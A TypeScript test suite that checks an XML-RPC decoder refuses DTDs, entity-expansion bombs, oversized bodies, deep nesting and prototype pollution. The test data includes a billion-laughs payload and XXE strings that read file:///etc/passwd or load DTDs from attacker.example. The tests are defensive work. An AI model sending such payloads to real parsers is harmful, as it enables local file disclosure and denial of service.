import { describe, expect, it } from 'vitest';
import { CodecError } from '../errors';
import {
  XMLRPC_DEFAULT_MAX_BYTES,
  XmlRpcDecoder,
  XmlRpcForbiddenError,
  XmlRpcParseError,
  XmlRpcTooDeepError,
  XmlRpcTooLargeError,
  decodeXmlRpcRequest,
  decodeXmlRpcResponse,
  encodeXmlRpcResponse,
} from './index';

function errorOf(run: () => unknown): CodecError {
  try {
    run();
  } catch (e) {
    expect(e).toBeInstanceOf(CodecError);
    return e as CodecError;
  }
  throw new Error('expected a CodecError, nothing was thrown');
}

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ELEMENT lolz (#PCDATA)>
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<methodResponse><params><param><value><string>&lol9;</string></value></param></params></methodResponse>`;

const resp = (value: string): string => `<methodResponse><params><param>${value}</param></params></methodResponse>`;

describe('xmlrpc security - DTDs and entities', () => {
  it('billion laughs - refused quickly with the forbidden error', () => {
    const started = performance.now();
    const e = errorOf(() => decodeXmlRpcResponse(BILLION_LAUGHS));
    const elapsed = performance.now() - started;
    expect(e).toBeInstanceOf(XmlRpcForbiddenError);
    expect(e.code).toBe('XMLRPC_FORBIDDEN');
    expect(e.message).toMatch(/DOCTYPE/);
    // an expansion would take minutes and gigabytes; a bound of a second keeps the claim on a loaded CI machine
    expect(elapsed).toBeLessThan(1000);
  });

  it('billion laughs - a streaming decoder refuses at the end of the DOCTYPE, before the body arrives', () => {
    const d = new XmlRpcDecoder({ expect: 'response' });
    const cut = BILLION_LAUGHS.indexOf(']>') + 2;
    expect(errorOf(() => d.write(new TextEncoder().encode(BILLION_LAUGHS.slice(0, cut))))).toBeInstanceOf(XmlRpcForbiddenError);
    expect(errorOf(() => d.end())).toBeInstanceOf(XmlRpcForbiddenError);
  });

  it('quadratic blowup - one large entity referenced many times is refused', () => {
    const big = 'x'.repeat(50_000);
    const xml = `<!DOCTYPE m [<!ENTITY a "${big}">]>${resp(`<value>${'&a;'.repeat(50_000)}</value>`)}`;
    const started = performance.now();
    expect(errorOf(() => decodeXmlRpcResponse(xml))).toBeInstanceOf(XmlRpcForbiddenError);
    // 50,000 x 50,000 characters expanded would be 2.5 GB; refused at the DOCTYPE it takes milliseconds
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it('XXE - external entities, parameter entities and external DTDs are refused', () => {
    const documents = [
      `<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${resp('<value>&xxe;</value>')}`,
      `<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://attacker.example/evil.dtd"> %xxe;]>${resp('<value/>')}`,
      `<!DOCTYPE methodResponse SYSTEM "http://attacker.example/evil.dtd">${resp('<value/>')}`,
      `<!DOCTYPE methodResponse PUBLIC "-//X//Y" "http://attacker.example/x.dtd">${resp('<value/>')}`,
      `<!DOCTYPE methodResponse>${resp('<value/>')}`,
    ];
    for (const xml of documents) {
      const e = errorOf(() => decodeXmlRpcResponse(xml));
      expect(e, xml).toBeInstanceOf(XmlRpcForbiddenError);
      const b = errorOf(() => decodeXmlRpcResponse(new TextEncoder().encode(xml)));
      expect(b, xml).toBeInstanceOf(XmlRpcForbiddenError);
    }
  });

  it('entities - a reference to an undeclared entity is forbidden, even without a DOCTYPE', () => {
    for (const ref of ['&xxe;', '&nbsp;', '&lol9;', '&constructor;', '&__proto__;', '&toString;']) {
      const e = errorOf(() => decodeXmlRpcResponse(resp(`<value>a${ref}b</value>`)));
      expect(e, ref).toBeInstanceOf(XmlRpcForbiddenError);
      expect(e.message).toMatch(/entity references other than/);
    }
  });

  it('entities - the five predefined entities and character references are fine; bad references are parse errors', () => {
    expect(decodeXmlRpcResponse(resp('<value>&lt;&gt;&amp;&quot;&apos;&#65;&#x42;&#x1F600;</value>'))).toEqual({
      kind: 'value',
      value: `<>&"'AB😀`,
    });
    for (const ref of ['&#0;', '&#xD800;', '&#x110000;', '&#;', '&#xZZ;', '&;']) {
      expect(errorOf(() => decodeXmlRpcResponse(resp(`<value>${ref}</value>`))), ref).toBeInstanceOf(XmlRpcParseError);
    }
  });

  it('struct - a "__proto__" member is an own property and pollutes nothing', () => {
    const xml = resp(
      '<value><struct><member><name>__proto__</name><value><struct><member><name>polluted</name><value>yes</value></member></struct></value></member></struct></value>',
    );
    const r = decodeXmlRpcResponse(xml);
    if (r.kind !== 'value') throw new Error('expected a value');
    const v = r.value as Record<string, unknown>;
    expect(Object.getPrototypeOf(v)).toBe(Object.prototype);
    expect(Object.keys(v)).toEqual(['__proto__']);
    expect(Object.getOwnPropertyDescriptor(v, '__proto__')?.value).toEqual({ polluted: 'yes' });
    expect(({} as Record<string, unknown>)['polluted']).toBeUndefined();
    expect(v['polluted']).toBeUndefined();
    // and it goes back out as the same member
    expect(encodeXmlRpcResponse(r.value)).toContain('<name>__proto__</name>');
  });
});

describe('xmlrpc security - size and depth', () => {
  it('too large - over the default 8 MiB, as string and as bytes, refused without parsing', () => {
    const big = resp(`<value>${'a'.repeat(XMLRPC_DEFAULT_MAX_BYTES)}</value>`);
    const started = performance.now();
    const e = errorOf(() => decodeXmlRpcResponse(big));
    expect(e).toBeInstanceOf(XmlRpcTooLargeError);
    expect(e.code).toBe('XMLRPC_TOO_LARGE');
    expect(errorOf(() => decodeXmlRpcResponse(Buffer.from(big)))).toBeInstanceOf(XmlRpcTooLargeError);
    expect(performance.now() - started).toBeLessThan(1000);
  });

  it('too large - counts UTF-8 bytes of a string; maxBytes is configurable; a body just at the limit passes', () => {
    const body = resp('<value>ééééé</value>'); // 10 bytes of é
    const bytes = Buffer.byteLength(body);
    expect(decodeXmlRpcResponse(body, { maxBytes: bytes })).toEqual({ kind: 'value', value: 'ééééé' });
    expect(errorOf(() => decodeXmlRpcResponse(body, { maxBytes: bytes - 1 }))).toBeInstanceOf(XmlRpcTooLargeError);
    expect(errorOf(() => decodeXmlRpcResponse(body, { maxBytes: body.length }))).toBeInstanceOf(XmlRpcTooLargeError);
  });

  it('too large - a streaming decoder refuses at the chunk that crosses the limit', () => {
    const chunk = new TextEncoder().encode('a'.repeat(400));
    const bytes = new XmlRpcDecoder({ maxBytes: 1000 });
    bytes.write(new TextEncoder().encode('<methodResponse><params><param><value>'));
    bytes.write(chunk);
    bytes.write(chunk);
    expect(errorOf(() => bytes.write(chunk))).toBeInstanceOf(XmlRpcTooLargeError);
    const text = new XmlRpcDecoder({ maxBytes: 1000 });
    text.write('<methodResponse><params><param><value>');
    expect(errorOf(() => text.write('b'.repeat(1000)))).toBeInstanceOf(XmlRpcTooLargeError);
  });

  const nested = (depth: number, kind: 'array' | 'struct'): string => {
    const open = kind === 'array' ? '<value><array><data>' : '<value><struct><member><name>k</name>';
    const close = kind === 'array' ? '</data></array></value>' : '</member></struct></value>';
    return resp(`${open.repeat(depth)}<value><int>1</int></value>${close.repeat(depth)}`);
  };

  it('too deep - 64 levels of arrays or structs decode, 65 are refused; maxDepth is configurable', () => {
    for (const kind of ['array', 'struct'] as const) {
      expect(() => decodeXmlRpcResponse(nested(64, kind))).not.toThrow();
      const e = errorOf(() => decodeXmlRpcResponse(nested(65, kind)));
      expect(e, kind).toBeInstanceOf(XmlRpcTooDeepError);
      expect(e.code).toBe('XMLRPC_TOO_DEEP');
      expect(errorOf(() => decodeXmlRpcResponse(nested(5, kind), { maxDepth: 4 }))).toBeInstanceOf(XmlRpcTooDeepError);
      expect(() => decodeXmlRpcResponse(nested(300, kind), { maxDepth: 300 })).not.toThrow();
    }
  });

  it('too deep - 100 000 nested arrays are refused quickly, without recursion', () => {
    const xml = nested(100_000, 'array');
    const started = performance.now();
    expect(errorOf(() => decodeXmlRpcResponse(xml))).toBeInstanceOf(XmlRpcTooDeepError);
    expect(performance.now() - started).toBeLessThan(500);
  });

  it('wide documents - many values within the limits decode', () => {
    const items = Array.from({ length: 50_000 }, (_, i) => i);
    expect(decodeXmlRpcRequest(`<methodCall><methodName>m</methodName><params><param>${encodeXmlRpcResponse(items).replace(/^.*<param>|<\/param>.*$/g, '')}</param></params></methodCall>`)).toEqual({
      kind: 'request',
      methodName: 'm',
      params: [items],
    });
  });
});
